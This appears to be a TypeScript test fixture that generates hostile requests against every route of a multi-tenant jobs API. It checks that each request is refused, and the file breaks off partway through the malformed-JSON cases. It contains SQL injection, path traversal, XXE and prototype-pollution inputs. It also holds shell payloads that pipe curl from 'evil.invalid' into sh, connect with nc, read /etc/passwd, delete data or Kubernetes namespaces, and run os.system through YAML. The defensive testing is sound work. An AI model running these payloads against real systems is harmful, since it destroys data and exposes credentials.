/*
 * Hostile requests against every route of the Tenant Jobs API, for the
 * hostile-input integration suite. Generation is deterministic: the
 * arbitrary parts (unicode strings, which auth variant goes to which route,
 * which field carries which shell payload) are drawn with fast-check from a
 * fixed seed, so a failing request is the same on every run.
 *
 * Every request here must be refused: none may create a run, a Job or a
 * namespace, whoever sends it.
 */
import type { BuiltInJobTypeId } from '@tenant-jobs/plugin-tenant-jobs-common';
import fc from 'fast-check';
import type { TestOrg, UserKey } from './harness';
import { validBody } from './harness';

/** The seed of every draw; change it to explore, keep it to reproduce. */
export const HOSTILE_SEED = 0x7e4a47;

export const HOSTILE_CATEGORIES = [
  'hostile-id',
  'unicode-and-null-bytes',
  'oversize-body',
  'prototype-pollution',
  'yaml-and-shell',
  'wrong-types',
  'wrong-content-type',
  'malformed-json',
  'unknown-fields',
  'cross-tenant',
  'auth',
  'bad-query',
  'schedules-triggers-configuration',
] as const;

export type HostileCategory = (typeof HOSTILE_CATEGORIES)[number];

export const ROUTES = [
  'GET /job-types',
  'GET /tiers',
  'GET /priorities',
  'GET /tenants',
  'GET /runs',
  'GET /stats',
  'GET /runs/:runId',
  'GET /runs/:runId/events',
  'GET /runs/:runId/logs',
  'POST /runs',
  'POST /runs/:runId/cancel',
  'POST /runs/:runId/retry',
  'GET /trigger-topics',
  'GET /triggers',
  'POST /triggers',
  'GET /triggers/:triggerId',
  'DELETE /triggers/:triggerId',
  'GET /schedules',
  'POST /schedules',
  'GET /schedules/:scheduleId',
  'POST /schedules/:scheduleId/pause',
  'DELETE /schedules/:scheduleId',
  'GET /tenants/:tenantId/configuration',
  'POST /tenants/:tenantId/configuration',
  'GET /me',
  'GET /admin/tenants',
  'GET /admin/clusters',
  'GET /audit',
  'GET /audit/export',
  'GET /usage',
] as const;

export type RouteId = (typeof ROUTES)[number];

/**
 * The audit action a refusal on `route` is recorded under: the mutating
 * routes have their own, every other refusal is `request-refused`.
 */
export function auditActionOf(route: RouteId): string {
  switch (route) {
    case 'POST /runs':
      return 'run-submit';
    case 'POST /runs/:runId/cancel':
      return 'run-cancel';
    case 'POST /runs/:runId/retry':
      return 'run-retry';
    case 'POST /triggers':
      return 'trigger-create';
    case 'DELETE /triggers/:triggerId':
      return 'trigger-delete';
    case 'POST /schedules':
      return 'schedule-create';
    case 'POST /schedules/:scheduleId/pause':
      return 'schedule-pause';
    case 'DELETE /schedules/:scheduleId':
      return 'schedule-delete';
    case 'POST /tenants/:tenantId/configuration':
      return 'configuration-import';
    default:
      return 'request-refused';
  }
}

export type HostileRequest = {
  category: HostileCategory;
  /** What is hostile about it, for failure messages. */
  name: string;
  route: RouteId;
  method: 'GET' | 'POST' | 'DELETE';
  /** Below /api/tenant-jobs, already percent-encoded. */
  path: string;
  /** Whose token to send (default alice), unless `authorization` is set. */
  as?: UserKey;
  /** The raw Authorization header; null sends none. */
  authorization?: string | null;
  headers?: Record<string, string>;
  /** The raw body and the Content-Type it is sent with. */
  body?: { contentType: string; payload: string | Buffer };
  /** The exact status the contract prescribes, where it does. */
  expectedStatus?: number;
  /** The exact error name the contract prescribes, where it does. */
  expectedErrorName?: string;
  /**
   * Sent after all others, one at a time: if wrongly accepted, it would
   * change the seeded run (cancel it), which other requests rely on.
   */
  last?: boolean;
};

export type HostileContext = {
  org: TestOrg;
  /** A real run of tenant a (alice's), the target of id-based routes. */
  seededRunId: string;
  /** A paused schedule of tenant a (alice's). */
  seededScheduleId: string;
  /** A trigger rule of tenant a (alice's). */
  seededTriggerId: string;
  /** The job type of the seeded run, schedule and rule. */
  jobType: string;
};

/** The topic the seeded rule listens to (allowed, shared). */
export const HOSTILE_TOPIC = 'tenant-jobs-test.push';

/**
 * Percent-encodes every UTF-8 byte but the unreserved characters. Unlike
 * encodeURIComponent it takes lone surrogates too (as U+FFFD).
 */
function enc(value: string): string {
  return [...Buffer.from(value, 'utf8')]
    .map(byte => {
      const char = String.fromCharCode(byte);
      return /[A-Za-z0-9\-_.~]/.test(char)
        ? char
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
    })
    .join('');
}

/** Draws `count` values of `arbitrary`; the same ones for the same `salt`. */
function draw<T>(arbitrary: fc.Arbitrary<T>, count: number, salt: number): T[] {
  return fc.sample(arbitrary, { seed: HOSTILE_SEED + salt, numRuns: count });
}

function json(value: unknown): HostileRequest['body'] {
  return { contentType: 'application/json', payload: JSON.stringify(value) };
}

function raw(
  payload: string | Buffer,
  contentType = 'application/json',
): HostileRequest['body'] {
  return { contentType, payload };
}

/** A JSON object text with `members` (raw JSON text) first, then `rest`'s. */
function withRawMembers(members: string, rest: Record<string, unknown>) {
  const tail = JSON.stringify(rest).slice(1);
  return `{${members}${tail === '}' ? '}' : `,${tail}`}`;
}

/** Characters no id, name or pattern of the API accepts. */
const FOREIGN_CHARACTERS = [
  '\u0000',
  '\u0007',
  '\u001b',
  '\u202e', // right-to-left override
  '\u200b', // zero-width space
  '\ufeff', // byte order mark
  '\u2010', // a hyphen that is not '-'
  'é',
  'ß',
  'ı', // dotless i, upper-cases to 'I'
  'Ａ', // full-width A
  '🦄',
  '𝕒',
];

/**
 * Unicode strings that always hold at least one character outside ASCII
 * letters, digits and punctuation, so no schema can take them as valid.
 */
function foreignStrings(
  count: number,
  salt: number,
  unit: 'binary' | 'grapheme' = 'binary',
): string[] {
  return draw(
    fc
      .tuple(
        fc.string({ unit, maxLength: 24 }),
        fc.constantFrom(...FOREIGN_CHARACTERS),
        fc.nat(),
      )
      .map(([text, foreign, at]) => {
        const i = text.length === 0 ? 0 : at % text.length;
        return `${text.slice(0, i)}${foreign}${text.slice(i)}`;
      }),
    count,
    salt,
  );
}

/** Shell, template and YAML payloads; each has a character no pattern allows. */
export const SHELL_AND_YAML_PAYLOADS = [
  '$(rm -rf /)',
  '`rm -rf /`',
  'events-db; curl evil.invalid | sh',
  'events-db && reboot',
  'events-db | nc evil.invalid 4444',
  '${IFS}cat${IFS}/etc/passwd',
  "'; kubectl delete namespace --all; '",
  '---\nkind: Pod\nmetadata:\n  name: evil\nspec:\n  hostPID: true',
  'a: b\n- c',
  'events-db\n- --privileged',
  '{{ .Values.secret }}',
  '> /dev/sda',
  '!!python/object/apply:os.system ["id"]',
];

/** The request of every route, for alice and her own seeded run. */
function routeRequest(
  route: RouteId,
  ctx: HostileContext,
): Pick<HostileRequest, 'route' | 'method' | 'path' | 'body'> {
  const id = enc(ctx.seededRunId);
  const [method, template] = route.split(' ') as [
    HostileRequest['method'],
    string,
  ];
  const path = template
    .replace(':id', id)
    .replace(':scheduleId', enc(ctx.seededScheduleId))
    .replace(':triggerId', enc(ctx.seededTriggerId))
    .replace(':tenantId', enc(ctx.org.tenants.a));
  const tenantId = ctx.org.tenants.a;
  const bodies: Partial<Record<RouteId, HostileRequest['body']>> = {
    'POST /runs': json(validBody(tenantId, 'data-etl')),
    'POST /triggers': json({
      tenantId,
      topic: HOSTILE_TOPIC,
      jobType: ctx.jobType,
    }),
    'POST /schedules': json({
      tenantId,
      jobType: ctx.jobType,
      cron: '0 4 * * *',
      paused: true,
    }),
    'POST /tenants/:tenantId/configuration': raw(
      'apiVersion: tenant-jobs.io/v1\nkind: TenantJobsConfiguration\nschedules: []\n',
      'application/yaml',
    ),
  };
  const body = bodies[route];
  return { route, method, path, ...(body ? { body } : {}) };
}

function idRoutes(
  id: string,
): Array<Pick<HostileRequest, 'route' | 'method' | 'path'>> {
  return [
    { route: 'GET /runs/:runId', method: 'GET', path: `/runs/${id}` },
    {
      route: 'GET /runs/:runId/events',
      method: 'GET',
      path: `/runs/${id}/events`,
    },
    { route: 'GET /runs/:runId/logs', method: 'GET', path: `/runs/${id}/logs` },
    {
      route: 'POST /runs/:runId/cancel',
      method: 'POST',
      path: `/runs/${id}/cancel`,
    },
    {
      route: 'POST /runs/:runId/retry',
      method: 'POST',
      path: `/runs/${id}/retry`,
    },
  ];
}

function hostileIds(ctx: HostileContext): HostileRequest[] {
  const seeded = ctx.seededRunId;
  const ids: Array<[name: string, encoded: string]> = [
    ['null byte', '%00'],
    ['the seeded id and a null byte', `${enc(seeded)}%00`],
    [
      'the seeded id, a null byte and more',
      `${enc(seeded)}%00${enc("' OR 1=1")}`,
    ],
    ['path traversal', '..%2F..%2Fetc%2Fpasswd'],
    ['path traversal to another route', '..%2F..%2Fjobs%3Flimit%3D200'],
    ['the seeded id and a traversal', `${enc(seeded)}%2F..%2F..`],
    ['an encoded slash', '%2F'],
    ['SQL: always true', enc("' OR '1'='1")],
    ['SQL: stacked statement', enc("x'; DROP TABLE tenant_jobs_runs; --")],
    ['SQL: union', enc(`${seeded}' UNION SELECT * FROM tenant_jobs_audit --`)],
    ['SQL: like wildcard', enc('%')],
    ['SQL: like wildcard after a prefix', enc(`${seeded.slice(0, 8)}%`)],
    ['malformed percent-encoding', '%E0%A4%A'],
    ['a lone percent sign', '%'],
    ['very long (8000 characters)', 'a'.repeat(8000)],
    ['very long in multi-byte characters', enc('é'.repeat(1000))],
    ['the seeded id upper-cased', enc(seeded.toUpperCase())],
    ['the seeded id with a leading space', enc(` ${seeded}`)],
    ...foreignStrings(6, 1, 'grapheme').map((id): [string, string] => [
      `unicode ${JSON.stringify(id)}`,
      enc(id),
    ]),
  ];
  return ids.flatMap(([name, id]) =>
    idRoutes(id).map(
      (route): HostileRequest => ({
        category: 'hostile-id',
        name: `id: ${name}`,
        ...route,
        expectedStatus: name.includes('percent') ? 400 : 404,
      }),
    ),
  );
}

function unicodeAndNullBytes(ctx: HostileContext): HostileRequest[] {
  const { tenants, components } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const params = base.parameters as Record<string, unknown>;
  const submit = (name: string, body: unknown): HostileRequest => ({
    category: 'unicode-and-null-bytes',
    name,
    route: 'POST /runs',
    method: 'POST',
    path: '/runs',
    body: json(body),
    expectedStatus: 400,
  });
  const fields = [
    'tenantId',
    'jobType',
    'tier',
    'priority',
    'idempotencyKey',
    'entityRef',
  ] as const;
  const strings = foreignStrings(24, 2);
  const requests: HostileRequest[] = [
    submit('tenantId cut by a null byte', {
      ...base,
      tenantId: `${tenants.a}\u0000`,
    }),
    submit("tenantId, a null byte and another tenant's id", {
      ...base,
      tenantId: `${tenants.a}\u0000${tenants.b}`,
    }),
    submit('jobType cut by a null byte', {
      ...base,
      jobType: 'data-etl\u0000',
    }),
    submit('jobType with a look-alike hyphen', {
      ...base,
      jobType: 'data\u2010etl',
    }),
    submit('tenantId in full-width letters', {
      ...base,
      tenantId: tenants.a.replace(/[a-z]/g, c =>
        String.fromCodePoint(c.codePointAt(0)! - 0x61 + 0xff41),
      ),
    }),
    submit('parameter cut by a null byte', {
      ...base,
      parameters: { ...params, source: 'events-db\u0000; rm -rf /' },
    }),
    submit('entityRef cut by a null byte', {
      ...base,
      entityRef: `${components.a.owned}\u0000`,
    }),
    submit('idempotencyKey with a right-to-left override', {
      ...base,
      idempotencyKey: 'key-\u202e1337',
    }),
    ...fields.flatMap((field, i) =>
      strings.slice(i * 2, i * 2 + 2).map(value =>
        submit(`${field} ${JSON.stringify(value)}`, {
          ...base,
          [field]: value,
        }),
      ),
    ),
    ...strings.slice(12, 16).map(value =>
      submit(`parameter value ${JSON.stringify(value)}`, {
        ...base,
        parameters: { ...params, destination: value },
      }),
    ),
    ...strings.slice(16, 18).map(value =>
      submit(`parameter name ${JSON.stringify(value)}`, {
        ...base,
        parameters: { ...params, [value]: 'x' },
      }),
    ),
  ];
  const query = (
    route: RouteId,
    path: string,
    name: string,
  ): HostileRequest => ({
    category: 'unicode-and-null-bytes',
    name,
    route,
    method: 'GET',
    path,
    expectedStatus: 400,
  });
  const logs = `/runs/${enc(ctx.seededRunId)}/logs`;
  const graphemes = foreignStrings(4, 3, 'grapheme');
  requests.push(
    query(
      'GET /runs',
      `/runs?tenantId=${enc(tenants.a)}%00`,
      'tenant cut by a null byte',
    ),
    query(
      'GET /runs',
      `/runs?entityRef=${enc(components.a.owned)}%00`,
      'entityRef cut by a null byte',
    ),
    query(
      'GET /runs',
      `/runs?submittedBy=${enc(ctx.org.users.alice)}%00`,
      'submittedBy cut by a null byte',
    ),
    query(
      'GET /runs',
      `/runs?from=${enc('2026-01-01T00:00:00Z\u0000')}`,
      'from cut by a null byte',
    ),
    query(
      'GET /runs',
      `/runs?tenantId=${enc(graphemes[0])}`,
      `tenant ${JSON.stringify(graphemes[0])}`,
    ),
    query(
      'GET /stats',
      `/stats?type=${enc(graphemes[1])}`,
      `type ${JSON.stringify(graphemes[1])}`,
    ),
    query(
      'GET /stats',
      `/stats?submittedBy=${enc(`user:default/${graphemes[2]}`)}`,
      `submittedBy user:default/${JSON.stringify(graphemes[2])}`,
    ),
    query('GET /runs/:runId/logs', `${logs}?pod=%00`, 'pod a null byte'),
    query(
      'GET /runs/:runId/logs',
      `${logs}?pod=${enc(graphemes[3])}`,
      `pod ${JSON.stringify(graphemes[3])}`,
    ),
  );
  return requests;
}

function oversizeBodies(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const params = base.parameters as Record<string, unknown>;
  const id = enc(ctx.seededRunId);
  const over = (
    name: string,
    route: RouteId,
    path: string,
    payload: string,
  ): HostileRequest => ({
    category: 'oversize-body',
    name,
    route,
    method: 'POST',
    path,
    body: raw(payload),
    expectedStatus: 413,
  });
  const exactlyOver = (() => {
    const text = JSON.stringify({
      ...base,
      parameters: { ...params, pad: '' },
    });
    const pad = 64 * 1024 + 1 - Buffer.byteLength(text);
    return JSON.stringify({
      ...base,
      parameters: { ...params, pad: 'x'.repeat(pad) },
    });
  })();
  const nested = 20_000;
  return [
    over(
      'a 70 kB parameter',
      'POST /runs',
      '/runs',
      JSON.stringify({
        ...base,
        parameters: { ...params, pad: 'x'.repeat(70 * 1024) },
      }),
    ),
    over('one byte over 64 kB', 'POST /runs', '/runs', exactlyOver),
    over(
      'a 70 kB tenantId',
      'POST /runs',
      '/runs',
      JSON.stringify({ ...base, tenantId: 'a'.repeat(70 * 1024) }),
    ),
    over(
      '90 kB of four-byte characters (45 k UTF-16 units)',
      'POST /runs',
      '/runs',
      JSON.stringify({ ...base, idempotencyKey: '🦄'.repeat(22_500) }),
    ),
    over(
      'a 1 MB body',
      'POST /runs',
      '/runs',
      JSON.stringify({ ...base, padding: 'x'.repeat(1024 * 1024) }),
    ),
    over(
      'a 70 kB cancel body',
      'POST /runs/:runId/cancel',
      `/runs/${id}/cancel`,
      JSON.stringify({ reason: 'x'.repeat(70 * 1024) }),
    ),
    over(
      'a 70 kB retry body',
      'POST /runs/:runId/retry',
      `/runs/${id}/retry`,
      JSON.stringify({ reason: 'x'.repeat(70 * 1024) }),
    ),
    {
      category: 'oversize-body',
      name: `parameters nested ${nested} arrays deep (under 64 kB)`,
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      body: raw(
        withRawMembers(
          `"parameters":{"source":${'['.repeat(nested)}${']'.repeat(nested)}}`,
          { tenantId: tenants.a, jobType: 'data-etl' },
        ),
      ),
      expectedStatus: 400,
    },
    {
      category: 'oversize-body',
      name: '3000 parameters (under 64 kB)',
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      body: json({
        ...base,
        parameters: Object.fromEntries(
          Array.from({ length: 3000 }, (_, i) => [`p${i}`, i]),
        ),
      }),
      expectedStatus: 400,
    },
  ];
}

function prototypePollution(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const params = base.parameters as Record<string, unknown>;
  const id = enc(ctx.seededRunId);
  const pollute = '{"polluted":"yes"}';
  const submit = (
    name: string,
    payload: string,
    expectedStatus = 400,
  ): HostileRequest => ({
    category: 'prototype-pollution',
    name,
    route: 'POST /runs',
    method: 'POST',
    path: '/runs',
    body: raw(payload),
    expectedStatus,
  });
  const requests: HostileRequest[] = [
    submit(
      '__proto__ in the body',
      withRawMembers(`"__proto__":${pollute}`, base),
    ),
    submit(
      'constructor.prototype in the body',
      withRawMembers(`"constructor":{"prototype":${pollute}}`, base),
    ),
    submit(
      '__proto__ in the parameters',
      withRawMembers(
        `"parameters":${withRawMembers(`"__proto__":${pollute}`, params)}`,
        { tenantId: tenants.a, jobType: 'data-etl' },
      ),
    ),
    submit(
      'constructor.prototype in the parameters',
      withRawMembers(
        `"parameters":${withRawMembers(
          `"constructor":{"prototype":${pollute}}`,
          params,
        )}`,
        { tenantId: tenants.a, jobType: 'data-etl' },
      ),
    ),
    submit(
      'a parameter named hasOwnProperty',
      JSON.stringify({
        ...base,
        parameters: { ...params, hasOwnProperty: 'x' },
      }),
    ),
    submit(
      'a parameter named toString',
      JSON.stringify({ ...base, parameters: { ...params, toString: 1 } }),
    ),
    submit(
      'a parameter named valueOf',
      JSON.stringify({ ...base, parameters: { ...params, valueOf: {} } }),
    ),
    submit(
      'jobType constructor',
      JSON.stringify({ ...base, jobType: 'constructor' }),
    ),
    submit(
      'jobType prototype',
      JSON.stringify({ ...base, jobType: 'prototype' }),
    ),
    submit(
      'jobType __proto__',
      JSON.stringify({ ...base, jobType: '__proto__' }),
    ),
    submit(
      'tenantId constructor',
      JSON.stringify({ ...base, tenantId: 'constructor' }),
      403,
    ),
    submit(
      'tenantId __proto__',
      JSON.stringify({ ...base, tenantId: '__proto__' }),
    ),
    submit('tier __proto__', JSON.stringify({ ...base, tier: '__proto__' })),
    submit('tier toString', JSON.stringify({ ...base, tier: 'toString' })),
    submit(
      'priority constructor',
      JSON.stringify({ ...base, priority: 'constructor' }),
    ),
    {
      category: 'prototype-pollution',
      name: '__proto__ in a cancel body, by a user of another tenant',
      route: 'POST /runs/:runId/cancel',
      method: 'POST',
      path: `/runs/${id}/cancel`,
      as: 'bob',
      body: raw(`{"__proto__":${pollute}}`),
      expectedStatus: 404,
    },
    {
      category: 'prototype-pollution',
      name: 'constructor.prototype in a retry body, by a user of another tenant',
      route: 'POST /runs/:runId/retry',
      method: 'POST',
      path: `/runs/${id}/retry`,
      as: 'carol',
      body: raw(`{"constructor":{"prototype":${pollute}}}`),
      expectedStatus: 404,
    },
  ];
  for (const name of ['__proto__', 'constructor', 'hasOwnProperty']) {
    for (const route of idRoutes(name)) {
      requests.push({
        category: 'prototype-pollution',
        name: `id ${name}`,
        ...route,
        expectedStatus: 404,
      });
    }
  }
  // qs drops a top-level __proto__ key before any route sees it, so on its
  // own it cannot be refused; these pair it with what must be refused and
  // check that the attempt changes nothing about the refusal.
  const logs = `/runs/${id}/logs`;
  const query: Array<[RouteId, string, Partial<HostileRequest>]> = [
    ['GET /runs', '/runs?constructor[prototype][polluted]=yes', {}],
    ['GET /runs', '/runs?tenant[__proto__][polluted]=yes', {}],
    ['GET /runs', '/runs?status[constructor][prototype]=yes', {}],
    ['GET /runs', '/runs?__proto__[polluted]=yes&limit=0', {}],
    ['GET /stats', '/stats?constructor[prototype][polluted]=yes', {}],
    ['GET /stats', '/stats?__proto__[polluted]=yes&from=yesterday', {}],
    [
      'GET /runs/:runId/logs',
      `${logs}?constructor[prototype][polluted]=yes`,
      {},
    ],
    [
      'GET /runs/:runId/logs',
      `${logs}?__proto__[polluted]=yes&tailLines=-1`,
      {},
    ],
    [
      'GET /runs/:runId',
      `/runs/${id}?__proto__[polluted]=yes`,
      { as: 'bob', expectedStatus: 404 },
    ],
    [
      'GET /runs/:runId/events',
      `/runs/${id}/events?__proto__[polluted]=yes`,
      { as: 'mallory', expectedStatus: 404 },
    ],
    [
      'GET /job-types',
      '/job-types?__proto__[polluted]=yes',
      { authorization: null, expectedStatus: 401 },
    ],
    [
      'GET /tenants',
      '/tenants?constructor[prototype][polluted]=yes',
      { authorization: 'Bearer x', expectedStatus: 401 },
    ],
  ];
  for (const [route, path, extra] of query) {
    requests.push({
      category: 'prototype-pollution',
      name: `query ${decodeURIComponent(path.slice(path.indexOf('?')))}`,
      route,
      method: 'GET',
      path,
      expectedStatus: 400,
      ...extra,
    });
  }
  return requests;
}

function yamlAndShell(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  // Where a payload may land: a string parameter of each built-in type
  // (pattern or enum), or a top-level string field.
  const targets: Array<{ name: string; body: (value: string) => unknown }> = [
    ...(
      [
        ['data-etl', 'source'],
        ['data-etl', 'destination'],
        ['data-etl', 'mode'],
        ['ml-training', 'model'],
        ['ml-training', 'dataset'],
        ['security-scan', 'target'],
        ['security-scan', 'scanType'],
        ['billing-report', 'period'],
        ['billing-report', 'format'],
        ['tenant-backup', 'target'],
      ] as const
    ).map(([type, parameter]) => ({
      name: `${type} parameter ${parameter}`,
      body: (value: string) => {
        const body = validBody(tenants.a, type);
        return {
          ...body,
          parameters: {
            ...(body.parameters as Record<string, unknown>),
            [parameter]: value,
          },
        };
      },
    })),
    ...(
      ['tenantId', 'jobType', 'idempotencyKey', 'entityRef', 'tier'] as const
    ).map(field => ({
      name: field,
      body: (value: string) => ({
        ...validBody(tenants.a, 'data-etl'),
        [field]: value,
      }),
    })),
  ];
  const picks = draw(
    fc.uniqueArray(fc.nat({ max: targets.length - 1 }), {
      minLength: 3,
      maxLength: 3,
    }),
    SHELL_AND_YAML_PAYLOADS.length,
    4,
  );
  const requests: HostileRequest[] = SHELL_AND_YAML_PAYLOADS.flatMap(
    (payload, i) =>
      picks[i].map(
        (t): HostileRequest => ({
          category: 'yaml-and-shell',
          name: `${targets[t].name} ${JSON.stringify(payload)}`,
          route: 'POST /runs',
          method: 'POST',
          path: '/runs',
          body: json(targets[t].body(payload)),
          expectedStatus: 400,
        }),
      ),
  );
  const id = enc(ctx.seededRunId);
  const query: Array<[RouteId, string]> = [
    ['GET /runs', `/runs?submittedBy=${enc('$(id)')}`],
    ['GET /runs', `/runs?tenantId=${enc('a;curl evil.invalid')}`],
    ['GET /runs', `/runs?cursor=${enc('`id`')}`],
    ['GET /runs', `/runs?entityRef=${enc('component:default/x\nkind: Pod')}`],
    ['GET /stats', `/stats?type=${enc('data-etl;rm -rf /')}`],
    ['GET /stats', `/stats?to=${enc('$(date)')}`],
    ['GET /runs/:runId/logs', `/runs/${id}/logs?pod=${enc('$(id)')}`],
    ['GET /runs/:runId/logs', `/runs/${id}/logs?tailLines=${enc('10; id')}`],
  ];
  for (const [route, path] of query) {
    requests.push({
      category: 'yaml-and-shell',
      name: `query ${decodeURIComponent(path.slice(path.indexOf('?')))}`,
      route,
      method: 'GET',
      path,
      expectedStatus: 400,
    });
  }
  for (const route of idRoutes(enc('$(rm -rf /)'))) {
    requests.push({
      category: 'yaml-and-shell',
      name: 'id $(rm -rf /)',
      ...route,
      expectedStatus: 404,
    });
  }
  return requests;
}

function wrongTypes(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const numbers = draw(fc.integer(), 4, 5);
  const wrong: Record<string, unknown[]> = {
    tenantId: [numbers[0], true, null, [tenants.a], { id: tenants.a }],
    jobType: [numbers[1], false, null, ['data-etl'], { id: 'data-etl' }],
    tier: [3, true, null, ['large'], { id: 'large' }],
    priority: [1, true, null, ['high'], { id: 'high' }],
    parameters: ['source=events-db', numbers[2], true, null, [base.parameters]],
    entityRef: [
      numbers[3],
      true,
      null,
      [ctx.org.components.a.owned],
      {
        kind: 'component',
        namespace: 'default',
        name: 'x',
      },
    ],
    idempotencyKey: [12345, true, null, ['key'], { key: 'k' }],
    dryRun: ['true', 'false', 1, 0, null, [true], { value: true }],
  };
  const submit = (name: string, payload: string): HostileRequest => ({
    category: 'wrong-types',
    name,
    route: 'POST /runs',
    method: 'POST',
    path: '/runs',
    body: raw(payload),
    expectedStatus: 400,
  });
  const requests = Object.entries(wrong).flatMap(([field, values]) =>
    values.map(value =>
      submit(
        `${field} ${JSON.stringify(value)}`,
        JSON.stringify({ ...base, [field]: value }),
      ),
    ),
  );
  const parameterValues: Array<[string, BuiltInJobTypeId, string, unknown]> = [
    ['ml-training epochs as a string', 'ml-training', 'epochs', '10'],
    ['ml-training epochs as a fraction', 'ml-training', 'epochs', 2.5],
    [
      'ml-training learningRate as a string',
      'ml-training',
      'learningRate',
      '0.1',
    ],
    ['ml-training batchSize as an array', 'ml-training', 'batchSize', [32]],
    [
      'tenant-backup retentionDays as a boolean',
      'tenant-backup',
      'retentionDays',
      true,
    ],
    [
      'tenant-backup retentionDays as null',
      'tenant-backup',
      'retentionDays',
      null,
    ],
    ['billing-report period as a number', 'billing-report', 'period', 202506],
    ['data-etl source as an array', 'data-etl', 'source', ['events-db']],
    [
      'data-etl source as an object',
      'data-etl',
      'source',
      { name: 'events-db' },
    ],
    ['security-scan target as a boolean', 'security-scan', 'target', false],
  ];
  for (const [name, type, parameter, value] of parameterValues) {
    const body = validBody(tenants.a, type);
    requests.push(
      submit(
        name,
        JSON.stringify({
          ...body,
          parameters: {
            ...(body.parameters as Record<string, unknown>),
            [parameter]: value,
          },
        }),
      ),
    );
  }
  requests.push(
    submit(
      'ml-training epochs 1e400 (Infinity)',
      withRawMembers(
        `"parameters":{"model":"m","dataset":"d","epochs":1e400}`,
        { tenantId: tenants.a, jobType: 'ml-training' },
      ),
    ),
    submit('body an array', JSON.stringify([base])),
    submit('body an empty array', '[]'),
    submit('body a string', JSON.stringify(JSON.stringify(base))),
    submit('body a number', '42'),
    submit('body null', 'null'),
    submit('body true', 'true'),
  );
  return requests;
}

function wrongContentTypes(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const text = JSON.stringify(base);
  const boundary = 'hostileBoundary7e4a47';
  const multipart = [
    `--${boundary}`,
    'Content-Disposition: form-data; name="tenantId"',
    '',
    tenants.a,
    `--${boundary}`,
    'Content-Disposition: form-data; name="jobType"',
    '',
    'data-etl',
    `--${boundary}`,
    'Content-Disposition: form-data; name="file"; filename="job.json"',
    'Content-Type: application/json',
    '',
    text,
    `--${boundary}--`,
    '',
  ].join('\r\n');
  const form = new URLSearchParams({
    tenantId: tenants.a,
    jobType: 'data-etl',
    'parameters[source]': 'events-db',
    'parameters[destination]': 'warehouse',
  }).toString();
  const xml = `<?xml version="1.0"?><!DOCTYPE job [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><job><tenantId>${tenants.a}</tenantId><jobType>data-etl</jobType><note>&xxe;</note></job>`;
  const yaml = `tenantId: ${tenants.a}\njobType: data-etl\nparameters:\n  source: events-db\n  destination: warehouse\n`;
  const kinds: Array<[string, string | Buffer]> = [
    ['text/plain', text],
    ['application/x-www-form-urlencoded', form],
    [`multipart/form-data; boundary=${boundary}`, multipart],
    ['application/xml', xml],
    ['text/xml', xml],
    ['application/yaml', yaml],
    ['application/octet-stream', Buffer.from(text)],
    ['application/json-patch+json', text],
    ['application/json; charset=utf-16', Buffer.from(text, 'utf16le')],
  ];
  const requests: HostileRequest[] = kinds.map(([contentType, payload]) => {
    const utf16 = contentType.includes('charset');
    return {
      category: 'wrong-content-type',
      name: `submit as ${contentType.split(';')[0]}${utf16 ? ' (UTF-16)' : ''}`,
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      body: raw(payload, contentType),
      // JSON in another encoding than UTF-8 is still JSON: 400 or 415.
      expectedStatus: utf16 ? undefined : 415,
    };
  });
  // On alice's own run, so only the content type is wrong. Retries go
  // first (the run is still running, so a wrongly accepted retry would be
  // a 409, not a new run); cancels go last, as one wrongly accepted would
  // cancel the seeded run.
  const id = enc(ctx.seededRunId);
  for (const action of ['retry', 'cancel'] as const) {
    for (const [contentType, payload] of kinds.slice(0, 4)) {
      requests.push({
        category: 'wrong-content-type',
        name: `${action} as ${contentType.split(';')[0]}`,
        route: `POST /runs/:runId/${action}`,
        method: 'POST',
        path: `/runs/${id}/${action}`,
        body: raw(
          contentType === 'text/plain' ? 'please' : payload,
          contentType,
        ),
        expectedStatus: 415,
        last: action === 'cancel',
      });
    }
  }
  return requests;
}

function malformedJson(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const a = tenants.a;
  const texts: Array<[string, string | Buffer]> = [
    ['truncated', `{"tenantId":"${a}","jobType":`],
    ['single quotes', `{'tenantId':'${a}','jobType':'data-etl'}`],
    ['trailing comma', `{"tenantId":"${a}","jobType":"data-etl",}`],
    ['unquoted keys', `{tenantId:"${a}",jobType:"data-etl"}`],
    [
      'NaN',
      `{"tenantId":"${a}","jobType":"data-etl","parameters":{"epochs":NaN}}`,
    ],
    ['a comment', `/* hi */ {"tenantId":"${a}","jobType":"data-etl"}`],
    ['two documents', `{"tenantId":"${a}"}{"jobType":"data-etl"}`],
    ['a leading null byte', `\u0000{"tenantId":"${a}","jobType":"data-etl"}`],
    [
      'an unescaped newline in a string',
      `{"tenantId":"${a}\n","jobType":"data-etl"}`,
    ],
    ['an invalid escape', `{"tenantId":"\\x41","jobType":"data-etl"}`],
    [
      'invalid UTF-8',
      Buffer.concat([
        Buffer.from(`{"tenantId":"`),
        Buffer.from([0xc3, 0x28, 0xff, 0xfe]),
        Buffer.from(`","jobType":"data-etl"}`),
      ]),
    ],
    ['only whitespace and a brace', ' \n\t{'],
  ];
  const requests: HostileRequest[] = texts.map(([name, payload]) => ({
    category: 'malformed-json',
    name,
    route: 'POST /runs',
    method: 'POST',
    path: '/runs',
    body: raw(payload),
    expectedStatus: 400,
    expectedErrorName: name === 'invalid UTF-8' ? undefined : 'InputError',
  }));
  requests.push(
    {
      category: 'malformed-json',
      name: 'gzip encoding that is not gzip',
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      headers: { 'Content-Encoding': 'gzip' },
      body: raw(`{"tenantId":"${a}","jobType":"data-etl"}`),
    },
    {
      category: 'malformed-json',
      name: 'an unknown content encoding',
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
